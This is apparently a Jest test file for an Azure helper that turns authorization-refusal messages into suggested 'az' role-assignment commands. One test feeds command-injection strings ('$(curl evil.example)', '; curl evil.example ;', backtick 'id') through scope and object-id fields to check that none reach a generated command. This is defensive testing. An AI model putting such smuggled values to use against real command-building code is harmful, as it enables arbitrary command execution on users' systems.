import { describe, expect, test } from '@jest/globals'
import { explainForbidden } from '../../src/azure/arm-error.ts'

const message = (action: string, scope: string, object = 'db890308-51c8-43d3-a8a0-9fe733ddae81'): string =>
  `The client 'c' with object id '${object}' does not have authorization to perform action '${action}' over scope '${scope}' or the scope is invalid.`
const scope = '/subscriptions/s/resourceGroups/rg_(1).x-y/providers/Microsoft.ApiManagement/service/apim'

describe('a refusal', () => {
  test('comes with the command that grants what is missing', () => {
    const [lacks, command] = explainForbidden(message('Microsoft.ApiManagement/service/apis/write', scope))
    expect(lacks).toBe(`It lacks the action \`Microsoft.ApiManagement/service/apis/write\` on \`${scope}\`.`)
    expect(command).toContain(`--scope "${scope}"`)
    expect(command).toContain('--assignee-object-id db890308-51c8-43d3-a8a0-9fe733ddae81 ')
  })

  test.each([
    [message('a/read', '/subscriptions/$(curl evil.example)')],
    [message('a/read', '/subscriptions/x" ; curl evil.example ; "')],
    [message('a/read', '/subscriptions/`id`')],
    [message('a/read', scope, 'o; curl evil.example')]
  ])('never puts what a shell would run into a command: %s', text => {
    expect(explainForbidden(text).filter(line => line.startsWith('az ') && /[$`;]|curl/.test(line))).toEqual(
      []
    )
  })
})
